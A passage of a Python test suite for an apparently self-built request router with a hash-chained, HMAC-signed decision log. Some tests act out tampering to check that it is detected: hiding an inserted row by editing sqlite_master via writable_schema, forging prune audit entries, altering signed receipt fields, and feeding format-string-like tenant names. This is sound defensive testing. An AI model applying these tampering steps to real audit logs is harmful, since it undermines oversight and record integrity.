            index = conn.execute("SELECT type, name, tbl_name, rootpage, sql FROM sqlite_master "
                                 "WHERE name = 'decisions_by_chain'").fetchone()
            conn.execute("DELETE FROM sqlite_master WHERE name = 'decisions_by_chain'")
            conn.commit()
        finally:
            conn.close()
        seq, link = self.db_rows("SELECT chain_seq, chain_hash FROM decisions "
                                 "WHERE decision_id = 'ing-2'")[0]
        self.edit(("INSERT INTO decisions (decision_id, decided_at, capability_id, chain_seq, "
                   "chain_hash) VALUES ('hidden', '2026-01-01T00:00:00Z', 'cap.x', ?, ?)",
                   (seq, link)))
        conn = sqlite3.connect(self.db)
        try:
            conn.execute("PRAGMA writable_schema = ON")
            conn.execute("INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
                         "VALUES (?, ?, ?, ?, ?)", index)
            conn.commit()
        finally:
            conn.close()
        self.restart()                          # (its connections read the schema anew)
        report = self.verify()
        self.assertFalse(report["intact"])
        self.assertEqual([p["problem"] for p in report["problems"]], ["inserted"])
        self.assertIn("decisions table holds", report["first_problem"]["message"])

    def forge_prune(self, gaps, seq):
        self.edit(("INSERT INTO audit (audit_id, at, token_id, action, target, detail, "
                   "chain_seq, chain_hash) VALUES (?, '2026-01-01T00:00:00Z', 'tok', ?, "
                   "'decisions', ?, ?, 'h')", ("forged-%s" % seq, hall.PRUNE_ACTION,
                                               json.dumps({"removed": 1, "gaps": gaps}), seq)))

    def test_a_prune_entry_outside_the_chain_vouches_for_nothing(self):
        seq, link = self.db_rows("SELECT chain_seq, chain_hash FROM decisions "
                                 "WHERE decision_id = 'ing-1'")[0]
        (last,) = self.db_rows("SELECT seq FROM chain")[0]
        self.edit("DELETE FROM decisions WHERE decision_id = 'ing-1'")
        for forged_at in (None, -1e19, last):   # unplaced, below every place, a taken place
            self.forge_prune([[seq, seq, link]], forged_at)
            problems = self.verify()["problems"]
            self.assertIn(("deleted", seq), [(p["problem"], p["seq"]) for p in problems],
                          forged_at)
            self.assertIn("inserted", [p["problem"] for p in problems])

    def test_prune_records_that_lead_back_do_not_hold_up_the_walk(self):
        (last,) = self.db_rows("SELECT seq FROM chain")[0]
        self.forge_prune([[4, 5, "a" * 64], [6, 3, "b" * 64]], last + 1)
        self.edit("DELETE FROM decisions WHERE chain_seq BETWEEN 4 AND 7",
                  "DELETE FROM alerts WHERE chain_seq BETWEEN 4 AND 7",
                  "DELETE FROM audit WHERE chain_seq BETWEEN 4 AND 7")
        result = run_hall(["verify-log", "--db", self.db], timeout=60)
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assertIn("NOT intact", result.stdout)

    def test_text_that_is_not_utf8_is_named_not_a_failure_to_read(self):
        self.edit("UPDATE decisions SET capability_id = CAST(X'FF63' AS TEXT) "
                  "WHERE decision_id = 'ing-0'",
                  "UPDATE decisions SET decision_id = CAST(X'696E672D31FF' AS TEXT) "
                  "WHERE decision_id = 'ing-1'")
        problems = self.verify()["problems"]
        self.assertEqual([p["problem"] for p in problems], ["altered", "altered"])
        self.assertIn("decision ing-0 ", problems[0]["message"] + problems[1]["message"])
        self.assertIn("decision ing-1? ", problems[0]["message"] + problems[1]["message"])
        result = run_hall(["verify-log", "--db", self.db])
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assertIn("decision ing-1? ", result.stdout)

    def test_the_seal_is_signed_with_its_types(self):
        self.assertEqual(self.db_rows("SELECT sealed_seq, sealed_at FROM chain"), [(0, None)])
        self.edit("UPDATE chain SET sealed_at = 'None'")   # (no time, as a text)
        report = self.verify()
        self.assertIs(report["head_signed"], False)
        self.assertEqual([p["problem"] for p in report["problems"]], ["head"])

    def test_a_blob_does_not_pass_for_the_text_of_its_bytes(self):
        self.call("POST", "/decisions/ingest", {"decision_id": "odd", "capability_id": "b'c'"})
        self.assertTrue(self.verify()["intact"])
        self.edit("UPDATE decisions SET capability_id = X'63' WHERE decision_id = 'odd'")
        problems = self.verify()["problems"]
        self.assertEqual([p["problem"] for p in problems], ["altered"])
        self.assertIn("decision odd ", problems[0]["message"])

    def test_a_repeated_ingest_is_logged_and_counted_once(self):
        self.call("GET", "/api/activity")
        for _ in range(3):
            self.assertEqual(self.call("POST", "/decisions/ingest", {"decision_id": "same"})[0],
                             201)
        minutes = self.call("GET", "/api/activity")[2]["minutes"]
        self.assertEqual(sum(m["decisions"] for m in minutes),
                         self.db_rows("SELECT count(*) FROM decisions")[0][0])


class ReceiptTest(ServerCase):

    def setUp(self):
        ServerCase.setUp(self)
        self.enroll(worker_record())

    def check(self, decision):
        status, _, answer = self.call("POST", "/api/receipts/verify", decision)
        self.assertEqual(status, 200, answer)
        return answer

    def test_a_route_decision_carries_a_receipt_a_worker_can_check(self):
        self.assertEqual(stat.S_IMODE(os.stat(self.db + ".keys").st_mode), 0o600)
        status, _, decision = self.route()
        self.assertEqual(status, 200)
        receipt = decision["receipt"]
        self.assertEqual((receipt["alg"], receipt["signed_fields"][-1]), ("HMAC-SHA256", "key_id"))
        (key_id, secret), = self.receipt_keys().items()
        self.assertEqual(receipt["key_id"], key_id)
        self.assertTrue(hall.verify_receipt(decision, secret))
        self.assertTrue(hall.verify_receipt(decision, bytes.fromhex(secret)))
        self.assertTrue(hall.verify_receipt(json.loads(json.dumps(decision)), {key_id: secret}))
        self.assertEqual(self.check(decision), {"valid": True, "reason": "signed by key " + key_id,
                                                "key_id": key_id,
                                                "decision_id": decision["decision_id"],
                                                "in_log": True})
        # fields outside the receipt may change (a client adds its own notes)
        self.assertTrue(hall.verify_receipt(dict(decision, note="seen"), secret))

    def test_changing_any_signed_field_fails(self):
        decision = self.route()[2]
        secret = self.receipt_keys()[decision["receipt"]["key_id"]]
        changes = {"decision_id": "another", "timestamp": "2026-01-01T00:00:00.000000+00:00",
                   "correlation_id": "c-2", "tenant_id": "org.evil", "capability_id": "cap.x",
                   "selected_worker_species_id": "wrk.evil", "selected_worker_id": "w.evil",
                   "denied": True, "allowed": False, "worker_id": "w.evil",
                   "deny_reason": "DENY_X", "artifact_hash": "sha256:" + "1" * 64,
                   "matched_rule_id": "r.other", "env": "prod", "data_label": "SECRET",
                   "tenant_risk": "high", "qos_class": "P0", "blast_score": 1,
                   "deny_reason_if_denied": {"code": "DENY_X", "message": "x"},
                   "required_controls_effective": ["ctrl.x"],
                   "escalation_effective": {"policy_gate": True},
                   "preconditions_checked": {"correlation_id": False}, "dry_run": True}
        self.assertEqual(set(changes), set(hall.RECEIPT_FIELDS))
        for field, value in changes.items():
            altered = dict(decision, **{field: value})
            self.assertFalse(hall.verify_receipt(altered, secret), field)
            answer = self.check(altered)
            self.assertEqual((answer["valid"], answer["in_log"]), (False, False), field)
            self.assertIn("does not match", answer["reason"])
        for receipt_change in ({"key_id": "rk_0000000000000000"}, {"mac": "0" * 64},
                               {"alg": "none"}):
            altered = dict(decision, receipt=dict(decision["receipt"], **receipt_change))
            self.assertFalse(hall.verify_receipt(altered, secret), receipt_change)
            self.assertFalse(self.check(altered)["valid"], receipt_change)
        self.assertFalse(hall.verify_receipt(dict(decision, receipt=None), secret))
        self.assertEqual(self.check({"decision_id": "x"})["reason"],
                         "the decision carries no receipt")
        self.assertEqual(self.call("POST", "/api/receipts/verify", [1, 2])[0], 400)

    def test_a_dropped_field_fails_even_one_signed_as_null(self):
        decision = self.route()[2]
        secret = self.receipt_keys()[decision["receipt"]["key_id"]]
        self.assertIsNone(decision["deny_reason"])
        for field in hall.RECEIPT_FIELDS:
            dropped = {k: v for k, v in decision.items() if k != field}
            self.assertFalse(hall.verify_receipt(dropped, secret), field)
            self.assertEqual(self.check(dropped)["reason"],
                             "the decision lacks signed field " + field)

    def test_in_log_means_every_logged_field_is_as_answered(self):
        decision = self.route(blast_score=20)[2]
        self.assertIs(self.check(decision)["in_log"], True)
        for edit in ("env = 'prod'", "blast_score = 21", "matched_rule_id = 'r.other'",
                     "denied = 1", "source = 'ingest'"):
            conn = sqlite3.connect(self.db)
            try:
                before = conn.execute("SELECT * FROM decisions WHERE decision_id = ?",
                                      (decision["decision_id"],)).fetchone()
                conn.execute("UPDATE decisions SET %s WHERE decision_id = ?" % edit,
                             (decision["decision_id"],))
                conn.commit()
                answer = self.check(decision)
                self.assertEqual((answer["valid"], answer["in_log"]), (True, False), edit)
                columns = [d[0] for d in conn.execute("SELECT * FROM decisions").description]
                conn.execute("UPDATE decisions SET %s WHERE decision_id = ?" % ", ".join(
                    "%s = ?" % c for c in columns), list(before) + [decision["decision_id"]])
                conn.commit()
            finally:
                conn.close()
            self.assertIs(self.check(decision)["in_log"], True, edit)

    def test_a_wrong_key_fails(self):
        decision = self.route()[2]
        self.assertFalse(hall.verify_receipt(decision, os.urandom(32)))
        self.assertFalse(hall.verify_receipt(decision, {decision["receipt"]["key_id"]: "ab" * 32}))
        other = hall.Hall()                     # another hall, its own key
        try:
            self.assertFalse(other.verify_receipt(decision)["valid"])
        finally:
            other.close()
        with self.assertRaises(ValueError):
            hall.verify_receipt(decision, "not hex")

    def test_a_decision_too_deep_to_encode_does_not_verify(self):
        secret = b"k" * 32
        decision = dict(dict.fromkeys(hall.RECEIPT_FIELDS), decision_id="d-1", tenant_id="org.a")
        decision["receipt"] = hall.sign_receipt(decision, hall.receipt_key_id(secret), secret)
        self.assertTrue(hall.verify_receipt(decision, secret))
        deep = []
        for _ in range(100000):
            deep = [deep]
        decision["preconditions_checked"] = deep
        self.assertEqual(hall.check_receipt(decision, {decision["receipt"]["key_id"]: secret}),
                         (False, "a signed field of the decision is not a JSON value"))

    def test_rotation_keeps_old_receipts_valid(self):
        old = self.route()[2]
        old_key = old["receipt"]["key_id"]
        self.assertEqual(self.call("POST", "/api/receipts/keys/rotate", token=self.reader)[0], 403)
        status, _, listing = self.call("POST", "/api/receipts/keys/rotate", token=self.admin)
        self.assertEqual((status, listing["count"]), (200, 2))
        current = [k["key_id"] for k in listing["keys"] if k["current"]]
        self.assertEqual(len(current), 1)
        self.assertNotEqual(current[0], old_key)
        self.assertNotIn("secret", json.dumps(listing))
        new = self.route()[2]
        self.assertEqual(new["receipt"]["key_id"], current[0])
        keys = self.receipt_keys()
        self.assertEqual(set(keys), {old_key, current[0]})
        self.assertTrue(self.check(old)["valid"])
        self.assertTrue(hall.verify_receipt(old, keys[old_key]))
        self.assertFalse(hall.verify_receipt(old, keys[current[0]]))
        self.assertTrue(hall.verify_receipt(new, keys))
        audit = self.call("GET", "/api/audit", token=self.admin)[2]["entries"]
        self.assertEqual((audit[0]["action"], audit[0]["target"]), ("receipts.rotate", current[0]))
        # a rotation by the command line reaches the running hall, and keys survive a restart
        result = run_hall(["receipt-key", "rotate", "--db", self.db])
        self.assertEqual(result.returncode, 0, result.stderr)
        third = result.stdout.split()[-1]
        self.assertTrue(poll(lambda: self.route()[2]["receipt"]["key_id"] == third))
        self.restart()
        self.assertEqual(self.route()[2]["receipt"]["key_id"], third)
        self.assertTrue(self.check(old)["valid"])

    def test_dry_runs_are_signed_but_not_logged_and_commands_check_receipts(self):
        dry = self.route(dry_run=True)[2]
        self.assertEqual((self.check(dry)["valid"], self.check(dry)["in_log"]), (True, False))
        decision = self.route()[2]
        path = self.write_file("decision.json", decision)
        result = run_hall(["verify-receipt", path, "--db", self.db])
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("valid: signed by key", result.stdout)
        self.assertIn("in the decision log", result.stdout)
        path = self.write_file("altered.json", dict(decision, tenant_id="org.evil"))
        result = run_hall(["verify-receipt", path, "--db", self.db])
        self.assertEqual(result.returncode, 1)
        self.assertIn("INVALID", result.stdout)
        result = run_hall(["receipt-key", "show", "--db", self.db])
        key_id, secret = result.stdout.split()[:2]
        self.assertEqual(key_id, decision["receipt"]["key_id"])
        self.assertTrue(hall.verify_receipt(decision, secret))

    def test_signing_during_rotation_always_finds_its_key(self):
        keyring = hall.Keyring(None)
        failures = []

        def sign():
            for _ in range(3000):
                try:
                    keyring.signing_key()
                except Exception as exc:        # pragma: no cover - the failure looked for
                    failures.append(exc)
        threads = [threading.Thread(target=sign) for _ in range(3)]
        for thread in threads:
            thread.start()
        for _ in range(300):
            keyring.rotate()
        for thread in threads:
            thread.join()
        self.assertEqual((failures, len(keyring.keys)), ([], 301))
        memory = hall.Hall()                    # an in-memory hall rotates too
        try:
            self.assertEqual(memory.rotate_receipt_key()["count"], 2)
        finally:
            memory.close()

    def test_a_key_file_others_can_read_is_refused(self):
        self.stop()
        os.chmod(self.db + ".keys", 0o644)
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=self.db))
        self.assertIn("chmod 600", str(caught.exception))
        os.chmod(self.db + ".keys", 0o600)
        with open(self.db + ".keys", "w") as handle:
            handle.write("{not json")
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=self.db))
        self.assertIn("cannot be used", str(caught.exception))

    def test_a_key_that_is_not_the_key_its_secret_names_is_refused(self):
        self.stop()
        short = b"\x01" * 8
        for key_id, secret in ((hall.receipt_key_id(short), short),     # too short
                               ("rk_0000000000000000", b"\x02" * 32),   # mislabelled
                               ("x", b"")):
            with open(self.db + ".keys", "w") as handle:
                json.dump({"current": key_id, "keys": [{"key_id": key_id, "secret": secret.hex(),
                                                        "created_at": "t"}]}, handle)
            with self.assertRaises(hall.ConfigError) as caught:
                hall.Hall(hall.Config(db_path=self.db))
            self.assertIn("is not the key its secret names", str(caught.exception))

    def test_a_signed_log_that_cannot_be_read_at_start_is_refused_not_given_a_new_key(self):
        self.stop()
        os.rename(self.db + ".keys", self.db + ".keys.elsewhere")
        holder = sqlite3.connect(self.db, isolation_level=None)
        self.addCleanup(holder.close)
        holder.execute("PRAGMA locking_mode=EXCLUSIVE")
        holder.execute("BEGIN EXCLUSIVE")       # (whether a key signed it cannot be read)
        read = hall.log_signature

        def read_while_locked(*args):
            try:
                return read(*args)
            finally:
                holder.close()                  # ... and free once the store opens it
        with mock.patch.object(hall, "log_signature", read_while_locked):
            with self.assertRaises(hall.ConfigError) as caught:
                hall.Hall(hall.Config(db_path=self.db, busy_timeout=100, access_log=False))
        self.assertIn("database is locked", str(caught.exception))
        self.assertFalse(os.path.exists(self.db + ".keys"))

    def test_verify_log_on_the_file_with_a_wrong_key_file_changes_nothing(self):
        self.route()
        self.stop()
        keys = self.db + ".keys"
        os.rename(keys, keys + ".right")
        hall.Hall(hall.Config(db_path=os.path.join(self.tmp.name, "other.db"),
                              receipt_keys=keys, access_log=False)).close()  # another key
        state = "SELECT (SELECT count(*) FROM alerts), (SELECT count(*) FROM audit), * FROM chain"
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            before = conn.execute(state).fetchall()
        result = run_hall(["verify-log", "--db", self.db], env={"HALL_RECEIPT_KEYS": keys})
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertIn("not signed with this hall's keys", result.stdout)
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            self.assertEqual(conn.execute(state).fetchall(), before)
        os.replace(keys + ".right", keys)
        result = run_hall(["verify-log", "--db", self.db], env={"HALL_RECEIPT_KEYS": keys})
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_another_halls_key_file_is_refused_before_anything_is_written(self):
        self.route()
        self.stop()
        other = os.path.join(self.tmp.name, "other.db")
        hall.Hall(hall.Config(db_path=other, access_log=False)).close()
        state = "SELECT (SELECT count(*) FROM alerts), (SELECT count(*) FROM audit), * FROM chain"
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            before = conn.execute(state).fetchall()
        result = run_hall(["route", "--capability", "cap.doc.summarize", "--env", "dev",
                           "--data-label", "PUBLIC", "--tenant", "org.a", "--db", self.db],
                          env={"HALL_RECEIPT_KEYS": other + ".keys"})
        self.assertEqual(result.returncode, 2, result.stdout)
        self.assertIn("does not hold", result.stderr)
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            self.assertEqual(conn.execute(state).fetchall(), before)
        self.assertEqual(files_held_open(self.db), [])
        self.start()                            # its own key file: as before
        self.assertIs(self.hall.verify_log()["intact"], True)

    def test_verify_log_reads_a_copy_without_its_key_file_and_writes_nothing(self):
        self.route()
        self.stop()
        copy = os.path.join(self.tmp.name, "copy.db")
        shutil.copy(self.db, copy)
        with open(copy, "rb") as handle:
            before = hashlib.sha256(handle.read()).hexdigest()
        os.chmod(copy, 0o444)
        result = run_hall(["verify-log", "--db", copy])
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual(result.stdout.splitlines()[:2], [
            "the head's signature is not checked: no key file at %s.keys" % copy,
            "intact: %d entries, chain length %d, head %s" % self.db_rows(
                "SELECT seq, seq, head FROM chain")[0]])
        with open(copy, "rb") as handle:
            self.assertEqual(hashlib.sha256(handle.read()).hexdigest(), before)
        self.assertFalse(os.path.exists(copy + ".keys"))
        reference = os.path.join(self.tmp.name, "reference.db")
        with contextlib.closing(sqlite3.connect(reference)) as conn:
            conn.execute("CREATE TABLE decisions (decision_id TEXT PRIMARY KEY)")
        result = run_hall(["verify-log", "--db", reference])
        self.assertEqual(result.returncode, 2)
        self.assertIn("no evidence chain yet", result.stderr)
        with contextlib.closing(sqlite3.connect(reference)) as conn:
            self.assertEqual(conn.execute("PRAGMA user_version").fetchone(), (0,))

    def test_a_lost_key_file_is_refused_not_made_anew(self):
        # Without its key the signed log cannot be checked; a new key would
        # sign the next head and make the log look rewritten for ever.
        self.stop()
        keys = self.db + ".keys"
        os.rename(keys, keys + ".elsewhere")
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=self.db, access_log=False))
        self.assertIn("HALL_RECEIPT_KEYS", str(caught.exception))
        self.assertFalse(os.path.exists(keys))
        self.assertEqual(files_held_open(self.db), [])
        os.rename(keys + ".elsewhere", keys)
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        try:
            report = h.verify_log()
            self.assertTrue(report["intact"], report["problems"])
        finally:
            h.close()

    def test_a_file_whose_chain_was_removed_is_not_sealed_anew_with_its_key(self):
        self.route()
        self.stop()
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            conn.execute("DROP TABLE chain")    # all of the chain: its rows can be rewritten
            for table in ("decisions", "alerts", "audit"):
                conn.execute("DROP INDEX %s_by_chain" % table)
                for column in ("chain_seq", "chain_hash"):
                    conn.execute("ALTER TABLE %s DROP COLUMN %s" % (table, column))
            undo_schema_9(conn)
            conn.execute("PRAGMA user_version = 5")
            conn.commit()
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=self.db, access_log=False))
        self.assertIn("the chain was removed from the file", str(caught.exception))
        self.assertEqual(files_held_open(self.db), [])
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            self.assertEqual(conn.execute("PRAGMA user_version").fetchone(), (5,))
        result = run_hall(["token", "list", "--db", self.db])
        self.assertEqual(result.returncode, 2, result.stdout)
        self.assertIn("the chain was removed", result.stderr)

    def test_a_key_file_that_cannot_be_written_is_a_clear_error(self):
        self.stop()
        db = os.path.join(self.tmp.name, "new.db")
        keys = os.path.join(self.tmp.name, "no such directory", "hall.keys")
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=db, receipt_keys=keys))
        self.assertIn("cannot write receipt key file", str(caught.exception))
        self.assertFalse(os.path.exists(db))    # refused before the database was made
        # and the other way round: a database that cannot be made leaves no key file
        db, keys = os.path.join(self.tmp.name, "no such directory", "new.db"), db + ".keys"
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=db, receipt_keys=keys))
        self.assertIn("cannot use database", str(caught.exception))
        self.assertFalse(os.path.exists(keys))
        link = os.path.join(self.tmp.name, "link.db")   # nor does a link that leads nowhere
        os.symlink(db, link)
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=link))
        self.assertIn("cannot use database", str(caught.exception))
        self.assertFalse(os.path.exists(link + ".keys"))
        loop = os.path.join(self.tmp.name, "loop.db")   # nor a link to itself
        os.symlink(loop, loop)
        with self.assertRaises(hall.ConfigError):
            hall.Hall(hall.Config(db_path=loop))
        self.assertFalse(os.path.exists(loop + ".keys"))


# Every deny code of the router, with the step that must deny it: explained
# decisions are compared with the router's own answers for the same input.
EXPLAIN_REGISTRY = [SUMMARIZER]
EXPLAIN_DENIALS = [
    ("DENY_SAFE_MODE", "floor", {}, {"floor": hall.Floor(True, "drill", None, frozenset())}),
    ("DENY_HALL_BANNED", "floor", {}, {"floor": hall.Floor(False, None, None, frozenset(),
                                                           True)}),
    ("DENY_UNKNOWN_TENANT", "floor", {},
     {"floor": hall.Floor(False, None, frozenset(["org.other"]), frozenset())}),
    ("DENY_MISSING_TENANT_ID", "floor", {"tenant_id": " "}, {}),
    ("DENY_INVALID_INPUT", "floor", {"blast_score": 101}, {}),
    ("DENY_SHADOW_RULES_DETECTED", "floor", {"env": "prod"}, {"rules": [
        rule("r.broad", {}, ["wrk.doc.summarizer"]),
        rule("r.narrow", {"env": "prod"}, ["wrk.doc.summarizer"])]}),
    ("DENY_NO_MATCHING_RULE", "rule", {"capability_id": "cap.unknown"}, {}),
    ("DENY_MISSING_CORRELATION_ID", "correlation_id", {"correlation_id": ""}, {}),
    ("DENY_MISSING_REQUIRED_CONTROLS", "required_controls", {}, {"rules": [
        rule("r.ctl", {}, ["wrk.doc.summarizer"], controls=["ctrl.redaction"])]}),
    ("DENY_REQUIRES_HUMAN", "blast_radius", {"env": "prod", "data_label": "SECRET",
                                             "qos_class": "P0"}, {}),
    ("DENY_APPROVAL_NOT_FOUND", "blast_radius", {"env": "prod", "blast_score": 90},
     {"approval": {"approval_id": "ap-1", "status": "unknown"}}),
    ("DENY_POLICY_GATE_UNCONFIGURED", "policy_gate", {}, {"rules": [
        rule("r.gated", {}, ["wrk.doc.summarizer"], escalation={"policy_gate": True})]}),
    ("DENY_POLICY_GATE", "policy_gate", {"data_label": "SECRET"}, {"policy": {
        "version": "p-1", "default": "ALLOW", "rules": [
            {"id": "no-secret", "match": {"data_label": "SECRET"}, "outcome": "DENY"}]}}),
    ("DENY_REQUIRES_HUMAN_APPROVAL", "policy_gate", {}, {"policy": {
        "version": "p-2", "default": "REQUIRE_HUMAN"}}),
    ("DENY_POLICY_GATE_INVALID_RESPONSE", "policy_gate", {}, {"policy": lambda values: "MAYBE"}),
    ("DENY_NO_AVAILABLE_WORKER", "worker", {}, {"rules": [
        rule("r.ghost", {}, ["wrk.ghost"])]}),
    ("DENY_WORKER_ATTESTATION_MISSING", "attestation", {},
     {"attestor": hall.Attestor([tempfile.gettempdir()], required=True)}),
    ("DENY_PRIVILEGE_ENVELOPE_VIOLATED", "privilege_envelope", {"request": {"writes": True}},
     {"rules": [rule("r.env", {}, ["wrk.doc.summarizer"],
                     controls=[hall.CTRL_ENVELOPE])],
      "registry": [worker_record("w.sum", "wrk.doc.summarizer", ["cap.doc.summarize"],
                                 currently_implements=[hall.CTRL_ENVELOPE],
                                 privilege_envelope={"writes": False})]}),
]


class PreparedDecisionTest(ServerCase):
    """A repeated input is answered from the decision prepared for it: the
    same answer, byte for byte in what is not the request's own, as
    deciding it anew."""

    def setUp(self):
        ServerCase.setUp(self)
        self.enroll(worker_record())
        self.enroll(worker_record("w.second", "wrk.second", ["cap.doc.summarize"]))

    def assert_answers_alike(self, first, second):
        """Two answers to one input differ only in the ids and time of each."""
        own = ("decision_id", "timestamp", "correlation_id")

        def common(decision):
            return dict(decision, receipt=dict(decision["receipt"], mac=None),
                        telemetry_envelopes=[{k: v for k, v in e.items() if k not in own}
                                             for e in decision["telemetry_envelopes"]],
                        **{k: None for k in own})
        self.assertEqual(common(first), common(second))
        for decision in (first, second):
            for envelope in decision["telemetry_envelopes"]:
                self.assertEqual({k: envelope[k] for k in own}, {k: decision[k] for k in own})
            self.assertTrue(hall.verify_receipt(decision, self.receipt_keys()), decision)
            self.assertEqual(self.db_rows(
                "SELECT decided_at, correlation_id, selected_worker FROM decisions "
                "WHERE decision_id = ?", (decision["decision_id"],)),
                [(decision["timestamp"], decision["correlation_id"],
                  decision["selected_worker_species_id"])])

    def test_a_repeated_input_is_answered_as_deciding_it_anew_would(self):
        first = self.route(correlation_id="c-1")[2]
        self.assertEqual(len(self.hall.prepared), 0)     # (an input seen once is only noted)
        answers = [self.route(correlation_id="c-%d" % n)[2] for n in (2, 3)] + [self.route()[2]]
        self.assertEqual(len(self.hall.prepared), 1)
        for answer in answers:
            self.assert_answers_alike(first, answer)
        self.assertEqual([a["correlation_id"] for a in answers[:2]], ["c-2", "c-3"])
        self.assertEqual(len({a["decision_id"] for a in [first] + answers}), 4)
        self.assertEqual(len({a["correlation_id"] for a in [first] + answers}), 4)
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(4,)])
        # another input is prepared beside it
        others = [self.route(correlation_id=c, data_label="INTERNAL")[2] for c in ("c-5", "c-6")]
        self.assertEqual([o["data_label"] for o in others], ["INTERNAL", "INTERNAL"])
        self.assertEqual(len(self.hall.prepared), 2)
        self.assert_answers_alike(*others)

    def test_what_a_client_sends_is_answered_as_sent(self):
        markers = self.hall.prepared._markers
        self.route(correlation_id="c-0")
        self.route(correlation_id="c-0")
        for correlation_id in ('a "quoted" \\ one', "caf\u00e9 \u2713 \U0001f642",
                               "50%(mac)s %s %%", markers["decision_id"], markers["mac"]):
            status, _, answer = self.route(correlation_id=correlation_id)
            self.assertEqual((status, answer["correlation_id"]), (200, correlation_id))
            self.assertNotIn(answer["decision_id"], markers.values())
            self.assertEqual(len(self.hall.prepared), 1)
        first = self.route(correlation_id="c-1")[2]
        self.assert_answers_alike(first, answer)
        # a tenant named like a hole is decided, and answered, as any other
        for tenant in (markers["timestamp"], "org.100% (%(decision_id)s)"):
            answers = [self.route(tenant_id=tenant, correlation_id=c)[2]
                       for c in ("t-1", "t-2", "t-3")]
            self.assertEqual([a["tenant_id"] for a in answers], [tenant] * 3)
            self.assert_answers_alike(answers[0], answers[2])
        self.assertEqual(len(self.hall.prepared), 2)      # (the hole-named tenant is not kept)

    def test_a_change_of_what_decides_is_decided_anew(self):
        def admin(method, path, body=None):
            status, _, answer = self.call(method, path, body, token=self.admin)
            self.assertIn(status, (200, 201), answer)
        record = worker_record()
        self.assertEqual(self.route()[2]["worker_id"], record["worker_id"])
        admin("POST", "/api/bans", {"sha256": record["artifact_hash"], "reason": "cve"})
        self.assertEqual(self.route()[2]["worker_id"], "w.second")
        admin("POST", "/api/safe-mode/enter", {"reason": "drill"})
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_SAFE_MODE")
        admin("POST", "/api/safe-mode/exit", {})
        self.assertEqual(self.route()[2]["worker_id"], "w.second")
        admin("PUT", "/api/policy", {"version": "p1", "default": "DENY"})
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_POLICY_GATE")
        admin("DELETE", "/api/policy")
        before = self.route()[2]["receipt"]["key_id"]
        admin("POST", "/api/receipts/keys/rotate")
        answer = self.route()[2]
        self.assertNotEqual(answer["receipt"]["key_id"], before)
        self.assertTrue(hall.verify_receipt(answer, self.receipt_keys()))
        admin("DELETE", "/workers/w.second")
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_NO_AVAILABLE_WORKER")
        admin("DELETE", "/api/bans/" + record["artifact_hash"])
        self.assertEqual(self.route()[2]["worker_id"], record["worker_id"])
        self.assertEqual(self.route(tenant_id="org.other")[2]["worker_id"], record["worker_id"])
        admin("PUT", "/api/tenants", {"tenants": ["org.acme"]})
        self.assertEqual(self.route(tenant_id="org.other")[2]["deny_reason"],
                         "DENY_UNKNOWN_TENANT")

    def test_what_might_decide_otherwise_is_not_prepared(self):
        for _ in range(2):
            self.assertEqual(self.route(capability_id="cap.none")[2]["deny_reason"],
                             "DENY_NO_MATCHING_RULE")
        for overrides in ({"dry_run": True}, {"explain": True}, {"approval_id": "apr_x"},
                          {"correlation_id": "line\nbreak"}):
            self.route(**overrides)
            answer = self.route(**overrides)[2]
            self.assertEqual(answer["correlation_id"], overrides.get("correlation_id",
                                                                     answer["correlation_id"]))
        self.assertEqual(len(self.hall.prepared), 0)
        self.assertEqual(answer["telemetry_envelopes"][0]["correlation_id"], "linebreak")
        calls = []
        self.hall.policy = lambda values: calls.append(values) or "ALLOW"   # (embedding)
        for _ in range(3):
            self.assertIs(self.route()[2]["allowed"], True)
        self.assertEqual((len(calls), len(self.hall.prepared)), (3, 0))

    def test_a_decision_handed_back_is_its_callers_own(self):
        body = route_body(env="prod", request={"writes": True})     # (blast terms: nested)
        for _ in range(2):                      # (noted, then prepared)
            self.hall.route(body)
        first = self.hall.route(body)
        self.assertEqual((type(first), len(self.hall.prepared)), (hall.PreparedDecision, 1))
        first["escalation_effective"]["rationale"] = "mine"
        first["candidate_workers_ranked"][0]["score_hint"] = 99
        first["telemetry_envelopes"][0]["event_id"] = "mine"
        scored = [e for e in first["telemetry_envelopes"] if "terms" in e]
        scored[0]["terms"]["mine"] = 1
        first["receipt"]["signed_fields"].append("mine")
        second = self.hall.route(body)
        self.assertIsNone(second["escalation_effective"]["rationale"])
        self.assertNotEqual(second["candidate_workers_ranked"][0]["score_hint"], 99)
        self.assertEqual(second["telemetry_envelopes"][0]["event_id"], "evt.os.task.routed")
        self.assertNotIn("mine", [e for e in second["telemetry_envelopes"] if "terms" in e][0]
                         ["terms"])
        self.assertNotIn("mine", second["receipt"]["signed_fields"])
        self.assertTrue(hall.verify_receipt(second, self.receipt_keys()))
        self.assertEqual(json.loads(hall.answer_json(second)), json.loads(json.dumps(second)))

    def test_what_is_kept_is_bounded(self):
        long_tenant, long_request = "org." + "\u2713" * 900, {"text": "x" * 5000}
        for _ in range(3):
            answer = self.route(tenant_id=long_tenant)[2]
            self.assertEqual((answer["tenant_id"], answer["allowed"]), (long_tenant, True))
